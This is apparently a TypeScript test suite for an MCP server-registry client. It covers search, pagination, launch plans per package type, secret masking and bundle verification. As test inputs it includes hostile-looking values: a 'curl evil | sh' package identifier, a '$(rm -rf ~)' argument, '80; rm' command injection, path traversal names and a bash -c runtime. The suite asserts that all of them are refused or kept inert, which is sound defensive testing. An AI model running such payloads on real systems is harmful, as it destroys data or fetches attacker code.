// MCP registries (server directories): the official /v0.1/ API from a loopback stub serving
// server.json documents of every package type, the BioContext registry's 70 real entries, and
// the hostile answers a registry can give. Plans say exactly what would run.
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import {
  bundleLaunch,
  createBioContextDirectory,
  createOfficialDirectory,
  type DirectoryEntry,
  DirectoryError,
  downloadBundle,
  getServer,
  launchOptions,
  planServer,
  searchServers,
  unpackBundle,
} from "../../../lib/mcp/directory/mod.ts";
import { createFsStorage } from "../../../lib/storage/fs.ts";
import { createMemoryStorage, createServerRegistry } from "../../../lib/mod.ts";
import {
  type DirectoryStub,
  fixture,
  FIXTURE_NAMES,
  startDirectoryStub,
  streamed,
} from "../_directory_stub.ts";

const BIOCONTEXT = new URL("../../fixtures/biocontext-registry/", import.meta.url).pathname;
let stub: DirectoryStub;
let docs: Record<string, Record<string, unknown>>;

before(async () => {
  docs = Object.fromEntries(
    await Promise.all(FIXTURE_NAMES.map(async (n) => [n, await fixture(n)])),
  );
  const sent = new Map<string, number>();
  const old = { ...docs["weather-pypi"], version: "0.4.0" };
  const deprecated = {
    ...docs["brave-search"],
    name: "io.github.example/old-weather",
    description: "Legacy weather server",
    version: "0.9.5",
  };
  const deleted = { ...docs["snyk"], name: "io.github.example/withdrawn", version: "1.0.0" };
  const bash = structuredClone(docs["brave-search"]) as {
    name: string;
    packages: { runtimeHint?: string }[];
  };
  bash.name = "io.github.evil/bash-hint";
  bash.packages[0].runtimeHint = "bash";
  stub = await startDirectoryStub({
    entries: [
      ...FIXTURE_NAMES.filter((n) => n !== "weather-pypi").map((n) => ({ server: docs[n] })),
      { server: old },
      { server: docs["weather-pypi"] },
      {
        server: deprecated,
        status: "deprecated",
        statusMessage: "use io.github.example/weather-mcp",
      },
      { server: deleted, status: "deleted" },
      { server: bash },
      { server: { ...docs["embedded"], name: "io.github.evil/wrong-types", version: 3 } },
      ...Array.from({ length: 45 }, (_, i) => ({
        server: {
          ...docs["embedded"],
          name: `io.github.bulk/server-${String(i).padStart(2, "0")}`,
        },
      })),
    ],
    routes: {
      "/huge/v0.1/servers": streamed(20 * 1024 * 1024, sent, "huge"),
      "/typed/v0.1/servers": (_req, res) => {
        res.writeHead(200, { "content-type": "application/json" });
        res.end(JSON.stringify({ servers: "nope" }));
      },
      "/dotdot/v0.1/servers/io.github.x%2Fok/versions/latest": (_req, res) => {
        res.writeHead(200, { "content-type": "application/json" });
        res.end(JSON.stringify({ server: { ...docs["embedded"], name: "io.github.x/../../etc" } }));
      },
      "/away/v0.1/servers": (_req, res) => {
        res.writeHead(302, { location: "http://192.0.2.1/v0.1/servers" });
        res.end();
      },
    },
  });
  (stub as DirectoryStub & { huge: Map<string, number> }).huge = sent;
});
after(() => stub.close());

const official = (path = "") => createOfficialDirectory({ url: stub.url + path });
const entryOf = async (name: string, version?: string) => await official().get(name, version);

describe("the official /v0.1/ API", () => {
  test("search finds a server by a word, latest versions only, with what it needs", async () => {
    const page = await official().search("weather");
    const names = page.entries.map((e) => `${e.server.name} ${e.server.version} ${e.status}`);
    assert.deepEqual(names, [
      "io.github.example/weather-mcp 0.5.0 active",
      "io.github.example/old-weather 0.9.5 deprecated",
    ]);
    assert.match(stub.requests.at(-1)!, /search=weather&version=latest&limit=20/);
    const [pypi] = launchOptions(page.entries[0]);
    assert.deepEqual(pypi.needs.map((n) => [n.name, n.required, n.secret]), [
      ["WEATHER_API_KEY", true, true],
      ["WEATHER_UNITS", false, false],
    ]);
  });

  test("several words must all match; the longest is sent", async () => {
    const page = await official().search("server filesystem");
    assert.deepEqual(page.entries.map((e) => e.server.name), [
      "io.github.modelcontextprotocol/filesystem",
    ]);
    assert.match(stub.requests.at(-1)!, /search=filesystem/);
  });

  test("pagination follows nextCursor across pages until the end", async () => {
    const seen: string[] = [];
    let cursor: string | undefined;
    let pages = 0;
    do {
      const page = await searchServers("bulk", { directories: [official()], cursor, limit: 20 });
      seen.push(...page.entries.map((e) => e.server.name));
      cursor = page.nextCursor;
      pages++;
    } while (cursor && pages < 10);
    assert.equal(pages, 3);
    assert.equal(seen.length, 45);
    assert.equal(new Set(seen).size, 45);
  });

  test("a deleted entry is left out of search (and said), and cannot be planned", async () => {
    const page = await official().search("withdrawn");
    assert.deepEqual(page.entries, []);
    assert.match(page.skipped!.join("\n"), /withdrawn 1\.0\.0 is deleted by the registry/);
    const entry = await entryOf("io.github.example/withdrawn");
    assert.equal(entry.status, "deleted");
    assert.throws(() => planServer(entry), { name: "DirectoryError", code: "deleted" });
  });

  test("a DirectoryError is one class with a code, and keeps the cause it was given", () => {
    const cause = new Error("ECONNRESET");
    const error = new DirectoryError("network", "registry unreachable", { cause });
    assert.ok(error instanceof DirectoryError && error instanceof Error);
    assert.deepEqual([error.name, error.code, error.cause], ["DirectoryError", "network", cause]);
    assert.equal(Object.hasOwn(new DirectoryError("invalid", "x"), "cause"), false);
  });

  test("a deprecated entry is shown as such and its plan says so", async () => {
    const entry = await entryOf("io.github.example/old-weather");
    assert.equal(entry.status, "deprecated");
    const plan = planServer(entry, { values: { BRAVE_API_KEY: "k" } });
    assert.match(plan.notes[0], /deprecated: use io\.github\.example\/weather-mcp/);
  });

  test("versions and a given version; names are URL-encoded in the path", async () => {
    const versions = await official().versions("io.github.example/weather-mcp");
    assert.deepEqual(versions.map((e) => e.server.version), ["0.5.0", "0.4.0"]);
    const old = await getServer("io.github.example/weather-mcp", "0.4.0", {
      directory: official(),
    });
    assert.equal(old.server.version, "0.4.0");
    assert.match(stub.requests.at(-1)!, /io\.github\.example%2Fweather-mcp\/versions\/0\.4\.0$/);
    await assert.rejects(official().get("io.github.example/nothing"), { code: "not-found" });
  });
});

describe("hostile answers are refused with a clear error", () => {
  test("20 MB: reading stops at the cap", async () => {
    const huge = (stub as DirectoryStub & { huge: Map<string, number> }).huge;
    const d = createOfficialDirectory({ url: `${stub.url}/huge`, maxBytes: 1024 * 1024 });
    await assert.rejects(d.search("x"), (e: Error & { code?: string }) => {
      assert.equal(e.code, "too-large");
      assert.match(e.message, /limit is 1048576 bytes \(reading stopped there\)/);
      return true;
    });
    await new Promise((r) => setTimeout(r, 100));
    assert.ok((huge.get("huge") ?? 0) < 20 * 1024 * 1024, `sent ${huge.get("huge")}`);
  });

  test("wrong types: the page's shape, and one entry among good ones", async () => {
    await assert.rejects(createOfficialDirectory({ url: `${stub.url}/typed` }).search(""), {
      code: "invalid",
      message: /did not answer \{ "servers": \[\.\.\.\] \}/,
    });
    const page = await official().search("wrong-types");
    assert.deepEqual(page.entries, []);
    assert.match(page.skipped![0], /version: Invalid type: Expected string but received 3/);
    await assert.rejects(entryOf("io.github.evil/wrong-types"), { code: "invalid" });
  });

  test("a name with /../, asked for or answered", async () => {
    await assert.rejects(official().get("io.github.x/../../etc"), {
      code: "invalid",
      message: /is not a server name/,
    });
    await assert.rejects(official().get("io.github.x/.."), { code: "invalid" });
    const d = createOfficialDirectory({ url: `${stub.url}/dotdot` });
    await assert.rejects(d.get("io.github.x/ok"), {
      code: "invalid",
      message: /name: a name like/,
    });
  });

  test("runtimeHint bash on an npm package", async () => {
    const entry = await entryOf("io.github.evil/bash-hint");
    assert.throws(() => planServer(entry, { values: { BRAVE_API_KEY: "k" } }), {
      code: "refused",
      message: /runtimeHint is "bash", but npm packages run with npx/,
    });
  });

  test("a redirect to a private address is refused by the URL policy", async () => {
    await assert.rejects(createOfficialDirectory({ url: `${stub.url}/away` }).search(""), {
      code: "policy",
      message: /\(a redirect\)/,
    });
  });
});

describe("plans: what each package type and remote runs", () => {
  const plan = async (name: string, values: Record<string, string> = {}, option?: number) =>
    planServer(await entryOf(name), { values, option });

  test("npm through npx, the version pinned; the secret in env, masked", async () => {
    const p = await plan("io.modelcontextprotocol.anonymous/brave-search", {
      BRAVE_API_KEY: "bsk-1",
    });
    assert.equal(p.launch.commandLine, "npx -y @modelcontextprotocol/server-brave-search@1.0.2");
    assert.deepEqual(p.config.env, { BRAVE_API_KEY: "bsk-1" });
    assert.deepEqual(p.launch.env, [{ name: "BRAVE_API_KEY", value: "••••••••", secret: true }]);
    assert.deepEqual(p.config.origin, {
      registry: stub.url,
      name: "io.modelcontextprotocol.anonymous/brave-search",
      version: "1.0.2",
      option: 0,
    });
    assert.equal(p.config.name, "brave-search");
  });

  test("a required secret not given is missing, not guessed", async () => {
    const p = await plan("io.modelcontextprotocol.anonymous/brave-search");
    assert.deepEqual(p.missing.map((m) => [m.name, m.secret]), [["BRAVE_API_KEY", true]]);
  });

  test("saved, the secret is sealed where the registry seals, and never in the origin", async () => {
    const p = await plan("io.github.example/weather-mcp", {
      WEATHER_API_KEY: "wk-secret-55",
      WEATHER_UNITS: "kelvin",
    });
    assert.deepEqual(p.config.origin.values, { WEATHER_UNITS: "kelvin" });
    const storage = createMemoryStorage();
    const registry = createServerRegistry({
      storage,
      secrets: { key: new Uint8Array(32).fill(7) },
    });
    await registry.add(p.config, { discover: false });
    const stored = (await storage.get("config.toml"))!;
    assert.doesNotMatch(stored, /wk-secret-55/);
    assert.match(stored, /\[mcp\.servers\.origin\.values\]\nWEATHER_UNITS = "kelvin"/);
    assert.equal((await registry.get("weather-mcp"))?.env?.WEATHER_API_KEY, "wk-secret-55");
  });

  test("pypi through uvx with defaults; nuget through dnx with arguments after --", async () => {
    const py = await plan("io.github.example/weather-mcp", { WEATHER_API_KEY: "w" });
    assert.equal(py.launch.commandLine, "uvx weather-mcp-server==0.5.0");
    assert.deepEqual(py.config.env, { WEATHER_API_KEY: "w", WEATHER_UNITS: "celsius" });
    const nuget = await plan("io.github.joelverhagen/knapcode-samplemcpserver", {
      WEATHER_CHOICES: "sunny",
    });
    assert.equal(
      nuget.launch.commandLine,
      "dnx Knapcode.SampleMcpServer@0.4.0-beta --yes -- mcp start",
    );
  });

  test("oci through docker: runtime arguments in order, env passed by name only", async () => {
    const p = await plan("io.github.example/database-manager", {
      db_type: "postgres",
      database_name: "genes",
      DB_USERNAME: "ann",
      DB_PASSWORD: "s3cret",
      port: "5432",
    });
    assert.deepEqual([p.config.command, ...p.config.args!], [
      "docker",
      "run",
      "-i",
      "--rm",
      "--network",
      "host",
      "-e",
      "DB_TYPE=postgres",
      "-e",
      "DB_USERNAME",
      "-e",
      "DB_PASSWORD",
      "-e",
      "SSL_MODE",
      "docker.io/example/database-manager-mcp:3.1.0",
      "--host",
      "localhost",
      "--port",
      "5432",
      "genes",
    ]);
    assert.ok(!p.config.args!.includes("s3cret"));
    assert.equal(p.config.env!.DB_PASSWORD, "s3cret");
  });

  test("choices and formats are enforced; unknown values are named", async () => {
    const entry = await entryOf("io.github.example/database-manager");
    const base = { database_name: "g", DB_USERNAME: "a", DB_PASSWORD: "p" };
    assert.throws(() => planServer(entry, { values: { ...base, db_type: "oracle" } }), {
      message: /db_type must be one of postgres, mysql, mongodb, redis/,
    });
    assert.throws(
      () => planServer(entry, { values: { ...base, db_type: "mysql", port: "80; rm" } }),
      {
        message: /port must be a number/,
      },
    );
    assert.throws(
      () => planServer(entry, { values: { ...base, db_type: "mysql", colour: "red" } }),
      {
        message: /takes no value named colour; it takes db_type/,
      },
    );
  });

  test("a remote: URL variables filled (encoded) and headers, secrets masked", async () => {
    const p = await plan("com.example/acme-analytics", {
      tenant_id: "genomics",
      "X-API-Key": "ak-9",
    });
    assert.equal(p.config.url, "https://genomics.api.example.com/mcp");
    assert.deepEqual(p.config.headers, { "X-API-Key": "ak-9" });
    assert.deepEqual(p.launch.headers, [{ name: "X-API-Key", value: "••••••••", secret: true }]);
    // A value cannot move the host: it is encoded, and a URL it breaks is refused.
    await assert.rejects(
      plan("com.example/acme-analytics", { tenant_id: "evil.com/x?", "X-API-Key": "k" }),
      {
        code: "invalid",
        message: /the URL .* is not a valid http\(s\) URL once its variables are filled/,
      },
    );
  });

  test("remotes come first; a package is chosen by option", async () => {
    const entry = await entryOf("io.modelcontextprotocol.anonymous/hybrid-mcp");
    assert.deepEqual(launchOptions(entry).map((o) => `${o.index} ${o.runs}`), [
      "0 remote",
      "1 remote",
      "2 npx",
    ]);
    const remote = planServer(entry, { values: { "X-API-Key": "k" } });
    assert.deepEqual(remote.config.headers, { "X-API-Key": "k", "X-Region": "us-east-1" });
    const npx = planServer(entry, { option: 2, values: { mode: "cached" } });
    assert.equal(npx.launch.commandLine, "npx -y @example/hybrid-mcp-server@1.5.0 --mode cached");
  });

  test("mcpb: the plan asks for the download to be verified first", async () => {
    const p = await plan("io.modelcontextprotocol/text-editor");
    assert.deepEqual(p.bundle, {
      url:
        "https://github.com/modelcontextprotocol/text-editor-mcpb/releases/download/v1.0.2/text-editor.mcpb",
      sha256: "fe333e598595000ae021bd27117db32ec69af6987f507ba7a63c90638ff633ce",
    });
    assert.equal(p.config.command, undefined);
  });

  test("a server with no package says where to read how to install it", () => {
    assert.throws(
      () => planServer({ server: docs.embedded as never, status: "active", directory: "x" }),
      {
        code: "unsupported",
        message: /lists no remote and no package; see https:\/\/anonymous/,
      },
    );
  });
});

function entry(server: Record<string, unknown>): DirectoryEntry {
  return { server: server as never, status: "active", directory: "test" };
}

describe("commands from a registry never need a shell", () => {
  const npm = (pkg: Record<string, unknown>) =>
    entry({
      name: "io.github.x/y",
      description: "d",
      version: "1",
      packages: [{
        registryType: "npm",
        identifier: "p",
        version: "1.0.0",
        transport: { type: "stdio" },
        ...pkg,
      }],
    });

  test("identifiers, versions and flags with shell syntax or a leading dash are refused", () => {
    for (
      const [pkg, why] of [
        [{ identifier: "p; curl evil | sh" }, /identifier .* is not a npm package name/],
        [{ identifier: "--registry=http://evil" }, /is not a npm package name/],
        [{ version: "^1.0.0" }, /is not an exact version/],
        [{ packageArguments: [{ type: "named", name: "--x;rm", value: "1" }] }, /is not a flag/],
        [{ registryBaseUrl: "http://evil.example" }, /must be a plain https:\/\/ URL/],
      ] as const
    ) {
      assert.throws(() => planServer(npm(pkg)), { code: "refused", message: why });
    }
  });

  test("a value with shell syntax stays one argument (nothing interprets it)", () => {
    const p = planServer(npm({ packageArguments: [{ type: "positional", valueHint: "dir" }] }), {
      values: { dir: "$(rm -rf ~); echo" },
    });
    assert.deepEqual(p.config.args, ["-y", "p@1.0.0", "$(rm -rf ~); echo"]);
    assert.equal(p.launch.commandLine, "npx -y p@1.0.0 '$(rm -rf ~); echo'");
  });

  test("a secret argument is refused, but docker -e NAME=secret moves to the environment", () => {
    assert.throws(
      () =>
        planServer(
          npm({ packageArguments: [{ type: "named", name: "--token", isSecret: true }] }),
          { values: { token: "t" } },
        ),
      { code: "refused", message: /takes a secret as a command-line argument/ },
    );
    const docker = planServer(
      entry({
        name: "io.github.x/y",
        description: "d",
        version: "1",
        packages: [{
          registryType: "oci",
          identifier: "ghcr.io/x/y:1",
          transport: { type: "stdio" },
          runtimeArguments: [{
            type: "named",
            name: "-e",
            value: "API_KEY={key}",
            variables: { key: { isSecret: true, isRequired: true } },
          }],
        }],
      }),
      { values: { key: "sk-77" } },
    );
    assert.deepEqual(docker.config.args, ["run", "-i", "--rm", "-e", "API_KEY", "ghcr.io/x/y:1"]);
    assert.deepEqual(docker.config.env, { API_KEY: "sk-77" });
  });

  test("an unknown package type or a package that serves HTTP itself is not run", () => {
    assert.throws(() => planServer(npm({ registryType: "cargo" })), { code: "unsupported" });
    assert.throws(
      () =>
        planServer(
          npm({ transport: { type: "streamable-http", url: "http://localhost:{port}/mcp" } }),
        ),
      { code: "unsupported", message: /only stdio packages are started/ },
    );
  });
});

describe("the BioContext registry", () => {
  const folder = () =>
    createBioContextDirectory({ storage: createFsStorage({ root: BIOCONTEXT }) });

  test("all 70 real entries are read from the folder, with what each needs", async () => {
    const page = await folder().search("", { limit: 100 });
    assert.equal(page.entries.length, 70);
    assert.equal(page.skipped, undefined);
    const meta = page.entries.find((e) => e.server.name === "biocontext-ai/meta-mcp")!;
    const [run] = launchOptions(meta);
    assert.equal(run.runs, "uvx");
    assert.deepEqual(
      run.needs.map((n) => `${n.name}${n.required ? "*" : ""}${n.secret ? "!" : ""}`),
      [
        "OPENAI_API_KEY*!",
        "ANTHROPIC_API_KEY*!",
        "GEMINI_API_KEY*!",
      ],
    );
    const bridged = page.entries.find((e) => e.server.name === "EBISPOT/ols4")!;
    assert.deepEqual(launchOptions(bridged).map((o) => o.label), [
      "streamable-http https://www.ebi.ac.uk/ols4/api/mcp",
    ]);
  });

  test("search by words over names, descriptions and keywords", async () => {
    const names = (await folder().search("single-cell")).entries.map((e) => e.server.name);
    assert.ok(names.includes("YosefLab/scvi-tools-mcp"), names.join());
    const both = (await folder().search("pubmed ncbi")).entries.map((e) => e.server.name);
    assert.deepEqual(both, ["musharna/data-aggregator-mcp", "noahzeidenberg/ncbi-mcp"]);
    for (const e of (await folder().search("pubmed ncbi")).entries) {
      const text = `${e.server.name} ${e.server.title} ${e.server.description} ${e.keywords}`
        .toLowerCase();
      assert.ok(text.includes("pubmed") && text.includes("ncbi"), e.server.name);
    }
  });

  test("plans: defaults kept, placeholders asked, inline code refused", async () => {
    const d = folder();
    const pubmed = planServer(await d.get("cyanheads/pubmed-mcp-server"), {
      values: { NCBI_API_KEY: "n" },
    });
    assert.equal(pubmed.launch.commandLine, "npx -y @cyanheads/pubmed-mcp-server");
    assert.deepEqual(pubmed.config.env, {
      MCP_TRANSPORT_TYPE: "stdio",
      MCP_LOG_LEVEL: "info",
      NCBI_API_KEY: "n",
    });
    assert.deepEqual(
      planServer(await d.get("biocontext-ai/protocol-mcp")).missing.map((m) => m.name),
      [
        "PROTOCOLS_IO_ACCESS_TOKEN",
      ],
    );
    await assert.rejects(async () => planServer(await d.get("jzinno/biomart-mcp")), {
      code: "refused",
      message: /runs code given inline \(python -c …\)/,
    });
  });

  test("the published JSON form (registry.json, mcp.json, mcp_tools.json) from a URL", async () => {
    const storage = createFsStorage({ root: BIOCONTEXT });
    const metas = [];
    const table: Record<string, unknown> = {};
    const { parse } = await import("yaml");
    for (const key of (await storage.keys("servers/")).filter((k) => k.endsWith("meta.yaml"))) {
      const meta = parse((await storage.get(key))!);
      metas.push(meta);
      const mcp = await storage.get(key.replace("meta.yaml", "mcp.json"));
      if (mcp) Object.assign(table, JSON.parse(mcp).mcpServers);
    }
    const json = (body: unknown) => (_req: unknown, res: import("node:http").ServerResponse) => {
      res.writeHead(200, { "content-type": "application/json" });
      res.end(JSON.stringify(body));
    };
    const bio = await startDirectoryStub({
      entries: [],
      routes: {
        "/registry.json": json(metas),
        "/mcp.json": json({ mcpServers: table }),
        "/mcp_tools.json": json({
          mcp_servers: {
            "YosefLab/scvi-tools-mcp": {
              tools: [{ name: "search_docs", description: "Search scvi-tools docs" }],
            },
          },
        }),
      },
    });
    try {
      const d = createBioContextDirectory({ url: bio.url });
      const all = await d.search("", { limit: 100 });
      assert.equal(all.entries.length, 70);
      const scvi = await d.get("YosefLab/scvi-tools-mcp");
      assert.deepEqual(scvi.tools, [{
        name: "search_docs",
        description: "Search scvi-tools docs",
      }]);
      assert.equal(planServer(scvi).launch.commandLine, "uvx scvi-tools-mcp");
    } finally {
      await bio.close();
    }
  });
});

describe("mcpb bundles", () => {
  const zip = (files: Record<string, string>) =>
    new Uint8Array(execFileSync("python3", [
      "-c",
      "import io,json,sys,zipfile\nb=io.BytesIO()\nz=zipfile.ZipFile(b,'w',zipfile.ZIP_DEFLATED)\n" +
      "for k,v in json.loads(sys.argv[1]).items(): z.writestr(k,v)\nz.close()\nsys.stdout.buffer.write(b.getvalue())",
      JSON.stringify(files),
    ]));
  const manifest = (command: string, args: string[], type = "node", extra = {}) =>
    JSON.stringify({
      name: "b",
      version: "1",
      server: { type, mcp_config: { command, args } },
      ...extra,
    });
  const hex = async (bytes: Uint8Array) =>
    [...new Uint8Array(await crypto.subtle.digest("SHA-256", bytes as BufferSource))]
      .map((b) => b.toString(16).padStart(2, "0")).join("");

  test("a download whose sha256 differs is refused before anything is unpacked", async () => {
    const bytes = zip({ "manifest.json": manifest("node", ["${__dirname}/s.js"]) });
    const files = await startDirectoryStub({
      entries: [],
      routes: { "/b.mcpb": (_req, res) => void res.writeHead(200).end(bytes) },
    });
    try {
      const url = `${files.url}/b.mcpb`;
      assert.deepEqual(await downloadBundle({ url, sha256: await hex(bytes) }), bytes);
      await assert.rejects(downloadBundle({ url, sha256: "0".repeat(64) }), {
        code: "digest",
        message: /has sha256 [0-9a-f]{64}, but the registry entry says 0{64}/,
      });
    } finally {
      await files.close();
    }
  });

  test("paths that leave the folder are refused; the manifest runs only its type's program", async () => {
    const dir = await mkdtemp(join(tmpdir(), "skillmux-mcpb-"));
    try {
      await assert.rejects(
        unpackBundle(
          zip({ "manifest.json": manifest("node", []), "../../escape.js": "x" }),
          join(dir, "a"),
        ),
        { code: "invalid", message: /leaves the bundle folder/ },
      );
      assert.equal(existsSync(join(dir, "escape.js")), false);
      const folder = join(dir, "b");
      const m = await unpackBundle(
        zip({
          "manifest.json": manifest(
            "node",
            ["${__dirname}/s.js", "--key", "${user_config.key}"],
            "node",
            {
              user_config: { key: { sensitive: false, required: true } },
            },
          ),
          "s.js": "",
        }),
        folder,
      );
      const launch = bundleLaunch(m, folder, { key: "k" });
      assert.deepEqual([launch.command, ...launch.args], ["node", `${folder}/s.js`, "--key", "k"]);
      assert.deepEqual(bundleLaunch(m, folder).missing.map((r) => r.name), ["key"]);
      assert.throws(
        () =>
          bundleLaunch({
            ...m,
            server: { ...m.server, mcp_config: { command: "bash", args: ["-c", "x"] } },
          }, folder),
        {
          code: "refused",
          message: /runs "bash", but its server type "node" runs with node/,
        },
      );
      const secret = { ...m, user_config: { key: { sensitive: true } } };
      assert.throws(() => bundleLaunch(secret, folder, { key: "k" }), {
        message: /puts the secret key on its command line/,
      });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
